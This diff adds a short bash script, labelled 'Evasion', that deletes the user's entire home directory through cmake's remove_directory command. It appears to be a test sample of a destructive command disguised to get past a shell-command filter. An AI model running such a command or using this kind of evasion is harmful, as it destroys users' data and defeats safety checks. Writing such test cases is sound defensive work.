@@ -1,0 +1,4 @@
+#!/bin/bash
+# Evasion: cmake's portable command mode deletes the home directory recursively
+set -u
+cmake -E remove_directory "$HOME"
